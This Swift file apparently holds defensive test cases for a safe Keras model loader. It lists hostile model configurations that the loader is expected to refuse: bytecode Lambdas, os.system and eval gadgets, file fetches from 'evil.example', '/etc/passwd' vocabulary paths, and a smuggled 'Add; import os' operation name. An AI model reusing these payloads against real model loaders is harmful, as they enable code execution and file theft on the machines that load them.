import Hornbill

/// A configuration that names what a file must not name, or asks for what no machine has.
struct ConfigAttack: Sendable {
    let name: String
    let text: String
    var says: [String]
    /// Whether a machine may well have what is asked for, so that only a file is too small for it.
    var isForFiles = false
    /// What older files have in place of `compile_config`.
    var training: String?

    init(_ name: String, text: String, says: String...) { (self.name, self.text, self.says) = (name, text, says) }

    init(_ name: String, _ model: ConfigValue, says: String..., isForFiles: Bool = false) {
        (self.name, text, self.says, self.isForFiles) = (name, JSON.text(model), says, isForFiles)
        guard var compile = model["compile_config"]?.object else { return }
        compile["optimizer_config"] = compile["optimizer"]
        training = JSON.text(.object(compile))
    }

    /// A layer in the midst of the model.
    init(_ name: String, layer: ConfigValue, says: String..., isForFiles: Bool = false) {
        (self.name, self.says, self.isForFiles) = (name, says, isForFiles)
        text = JSON.text(Victim.sequential([Victim.input, layer, Victim.dense]))
    }

    /// The files that carry it.
    var files: [Attack] {
        [
            Attack(name, "keras", says: says) { try Victim.archive(text) },
            Attack(name, "h5", says: says) { try Victim.legacy(text, training: training) },
        ]
    }
}

/// Code and foreign objects: everything that a file could have Keras run.
enum CodeAttacks {
    private static let bytecode: ConfigValue = .object([
        "class_name": "__lambda__", "config": .object(["code": "4wEAAAAAAAAA", "defaults": .null, "closure": .null]),
    ])

    private static func function(_ module: ConfigValue, _ name: ConfigValue) -> ConfigValue {
        .object(["module": module, "class_name": "function", "config": name, "registered_name": "function"])
    }

    private static func dense(_ key: String, _ value: ConfigValue) -> ConfigValue {
        Victim.object("Dense", ["name": "evil", "units": 3, key: value])
    }

    static let all: [ConfigAttack] = wrappers + modules + gadgets + nested + paths + compileStates

    private static let wrappers: [ConfigAttack] =
        [
            ConfigAttack(
                "Lambda with bytecode",
                layer: Victim.object("Lambda", ["name": "evil", "function": bytecode, "output_shape": .null]),
                says: "Lambda 'evil' is refused", "Python code"),
            ConfigAttack(
                "Lambda of the private module",
                layer: Victim.object("Lambda", ["name": "evil"], module: "keras.src.layers.core.lambda_layer"),
                says: "Lambda 'evil' is refused"),
            ConfigAttack(
                "Lambda of Keras 2", layer: .object(["class_name": "Lambda", "config": .object(["name": "evil"])]),
                says: "Lambda 'evil' is refused"),
            ConfigAttack(
                "Lambda under a registered name",
                layer: .object([
                    "module": .null, "class_name": "Lambda", "config": .object(["name": "evil"]),
                    "registered_name": "Custom>Lambda",
                ]), says: "Lambda 'evil' is refused"),
            ConfigAttack(
                "bytecode as an activation", layer: dense("activation", bytecode), says: "activation", "__lambda__",
                "refused"),
            ConfigAttack(
                "bytecode as an initializer", layer: dense("kernel_initializer", bytecode), says: "kernel_initializer",
                "__lambda__", "refused"),
            ConfigAttack(
                "bytecode as a regularizer", layer: dense("bias_regularizer", bytecode), says: "bias_regularizer",
                "__lambda__", "refused"),
            ConfigAttack(
                "bytecode as a constraint", layer: dense("kernel_constraint", bytecode), says: "kernel_constraint",
                "__lambda__", "refused"),
            ConfigAttack("bytecode as a layer", layer: bytecode, says: "__lambda__ is refused"),
        ]
        + ["TorchModuleWrapper", "TFSMLayer", "JaxLayer", "FlaxLayer", "TFOpLambda", "TensorFlowOpLayer"].map { name in
            ConfigAttack(
                name, layer: Victim.object(name, ["name": "evil", "filepath": "/etc", "module": "gASV"]),
                says: "\(name) 'evil' is refused", "another framework")
        }

    private static let modules: [ConfigAttack] = [
        ("os", "system"), ("posix", "system"), ("subprocess", "Popen"), ("builtins", "eval"), ("builtins", "exec"),
        ("numpy", "load"), ("pickle", "loads"), ("keras_evil", "Dense"), ("", "Dense"), ("keras.losses", "Dense"),
        ("kerasx.layers", "Dense"),
    ].map { module, name in
        ConfigAttack(
            "\(module).\(name) as a layer", layer: Victim.object(name, ["name": "evil"], module: .string(module)),
            says: "'\(module).\(name)' is refused")
    }

    private static let gadgets: [ConfigAttack] =
        [
            ("keras.utils", "get_file"), ("keras.models", "load_model"), ("keras.saving", "load_model"),
            ("keras.utils", "deserialize_keras_object"), ("keras.src.utils.file_utils", "get_file"),
            ("keras.src.saving.saving_api", "load_model"), ("keras.config", "enable_unsafe_deserialization"),
            ("builtins", "eval"), ("os", "system"), ("keras.layers", "Dense"), ("keras.src.backend", "exec"),
        ].flatMap { module, name in
            [
                ConfigAttack(
                    "the function \(module).\(name) as a layer", layer: function(.string(module), .string(name)),
                    says: name),
                ConfigAttack(
                    "the function \(module).\(name) as an activation",
                    layer: dense("activation", function(.string(module), .string(name))), says: "activation", name),
                ConfigAttack(
                    "\(module).\(name) as a layer with arguments",
                    layer: Victim.object(
                        name, ["fname": "x", "origin": "http://evil.example/x"], module: .string(module)),
                    says: name),
            ].filter { !(name == "Dense" && $0.name.hasSuffix("arguments")) }
        } + [
            ConfigAttack(
                "a function of no name", layer: function("builtins", .object([:])), says: "the config of a function"),
            ConfigAttack(
                "an activation by a path", layer: dense("activation", "os.system"),
                says: "there is no activation 'os.system'"),
            ConfigAttack(
                "an activation that reads a file", layer: dense("activation", "get_file"),
                says: "there is no activation 'get_file'"),
            ConfigAttack(
                "a class that is not registered",
                layer: .object([
                    "module": .null, "class_name": "Evil", "config": .object([:]), "registered_name": "Custom>Evil",
                ]), says: "there is no layer 'Custom>Evil'"),
            ConfigAttack(
                "a dtype that is an object of another kind",
                layer: dense("dtype", Victim.object("system", ["command": "ls"], module: "os")), says: "dtype",
                "'os.system' is refused"),
        ]
        + ["Numpy", "__import__", "eval", "../matmul", "Add; import os", "", "get_file"].map { name in
            let operation = Victim.object(name, [:], module: "keras.src.ops.numpy")
            return ConfigAttack(
                "the operation '\(name)'",
                Victim.functional(
                    [Victim.node(Victim.input, "x"), Victim.node(operation, "evil", on: ["x"])], output: "evil"),
                says: "the operation 'evil' is keras.src.ops.numpy.\(name), which is not known")
        }

    private static let nested: [ConfigAttack] = {
        let lambda = Victim.object("Lambda", ["name": "evil", "function": bytecode])
        let system = Victim.object("system", ["command": "ls"], module: "os")
        return [
            ConfigAttack(
                "Lambda in TimeDistributed", layer: Victim.object("TimeDistributed", ["layer": lambda]),
                says: "Lambda 'evil' is refused"),
            ConfigAttack(
                "os.system in Bidirectional", layer: Victim.object("Bidirectional", ["layer": system]),
                says: "'os.system' is refused"),
            ConfigAttack(
                "Lambda as a cell", layer: Victim.object("RNN", ["cell": lambda]), says: "Lambda 'evil' is refused"),
            ConfigAttack(
                "Lambda among cells", layer: Victim.object("RNN", ["cell": [lambda]]), says: "Lambda 'evil' is refused"),
            ConfigAttack(
                "Lambda in a model in a model", layer: Victim.sequential([Victim.sequential([lambda])]),
                says: "Lambda 'evil' is refused"),
            ConfigAttack(
                "Lambda in a graph",
                Victim.functional(
                    [Victim.node(Victim.input, "x"), Victim.node(lambda, "evil", on: ["x"])], output: "evil"),
                says: "Lambda 'evil' is refused"),
            ConfigAttack("a model that is os.system", system, says: "'os.system' is refused"),
            ConfigAttack("a model that is a Lambda", lambda, says: "Lambda 'evil' is refused"),
        ]
    }()

    /// Where Keras would open a file or a URL.
    private static let paths: [ConfigAttack] =
        ["StringLookup", "IntegerLookup", "TextVectorization"].flatMap { layer in
            ["/etc/passwd", "../../etc/passwd", "https://evil.example/words.txt", "gs://evil/words", ""].map { path in
                ConfigAttack(
                    "\(layer) of '\(path)'",
                    layer: Victim.object(layer, ["name": "evil", "vocabulary": .string(path)]),
                    says: "\(layer) 'evil'", "vocabulary", "a list of tokens")
            }
        } + [
            ConfigAttack(
                "a function to split texts",
                layer: Victim.object("TextVectorization", ["name": "evil", "split": bytecode]),
                says: "TextVectorization 'evil'", "split"),
            ConfigAttack(
                "a function to standardize texts",
                layer: Victim.object("TextVectorization", ["name": "evil", "standardize": function("os", "system")]),
                says: "TextVectorization 'evil'", "standardize"),
        ]

    private static let compileStates: [ConfigAttack] = {
        func model(_ compile: Config) -> ConfigValue {
            guard case .object(var model) = Victim.config else { return .null }
            model["compile_config"] = .object(Config([("optimizer", "sgd"), ("loss", "mse")]).merging(compile))
            return .object(model)
        }
        return [
            ConfigAttack(
                "os.system as the optimizer", model(["optimizer": Victim.object("system", [:], module: "os")]),
                says: "'os.system' is refused"),
            ConfigAttack("bytecode as the loss", model(["loss": bytecode]), says: "__lambda__ is refused"),
            ConfigAttack(
                "eval as the loss", model(["loss": function("builtins", "eval")]), says: "eval"),
            ConfigAttack(
                "exec as a metric", model(["metrics": [function("builtins", "exec")]]), says: "exec"),
            ConfigAttack(
                "get_file as a metric", model(["metrics": ["get_file"]]), says: "there is no metric 'get_file'"),
            ConfigAttack(
                "bytecode as the learning rate",
                model([
                    "optimizer": Victim.object("SGD", ["learning_rate": bytecode], module: "keras.optimizers")
                ]), says: "learning_rate", "__lambda__"),
        ]
    }()
}
